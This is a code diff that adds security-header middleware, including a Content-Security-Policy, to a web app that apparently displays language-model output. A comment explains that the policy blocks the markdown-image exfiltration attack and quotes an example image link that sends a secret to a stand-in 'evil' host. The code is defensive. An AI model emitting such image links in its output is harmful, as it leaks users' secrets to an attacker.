@@ -106,3 +106,45 @@ class BodySizeLimit:
 
     async def _reject(self, scope: Scope, receive: Receive, send: Send) -> None:
         await error_response(self._too_large())(scope, receive, send)
+
+
+# The UI's policy. Model output is rendered by web/static/markdown.js, which emits no <img>
+# and escapes all HTML; the policy is the second wall if that ever fails: no script but the
+# UI's own files (no inline script, no eval), and images only from this origin or data: URLs,
+# so a markdown image pointing at another host (`![x](https://evil/?q=secret)`, the
+# exfiltration attack) could not load. Inline styles stay allowed: index.html and the
+# renderer set a few, and styles cannot run code. /docs (Swagger UI, from a CDN) is left out.
+UI_POLICY = (
+    "default-src 'self'; script-src 'self'; style-src 'self' 'unsafe-inline'; "
+    "img-src 'self' data:; connect-src 'self'; font-src 'self'; object-src 'none'; "
+    "base-uri 'none'; form-action 'self'; frame-ancestors 'none'"
+)
+_UI_HEADERS = [
+    (b"content-security-policy", UI_POLICY.encode()),
+    (b"x-frame-options", b"DENY"),
+    (b"referrer-policy", b"no-referrer"),
+]
+
+
+class SecurityHeaders:
+    """`X-Content-Type-Options: nosniff` on every response; the UI's pages and files (`/`,
+    `/static/...`) also get its Content-Security-Policy, no framing and no referrer."""
+
+    def __init__(self, app: ASGIApp):
+        self.app = app
+
+    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
+        if scope["type"] != "http":
+            await self.app(scope, receive, send)
+            return
+        path = scope.get("path", "")
+        extra = [(b"x-content-type-options", b"nosniff")]
+        if path == "/" or path.startswith("/static/"):
+            extra += _UI_HEADERS
+
+        async def send_with_headers(message: Message) -> None:
+            if message["type"] == "http.response.start":
+                message["headers"] = [*message.get("headers", []), *extra]
+            await send(message)
+
+        await self.app(scope, receive, send_with_headers)
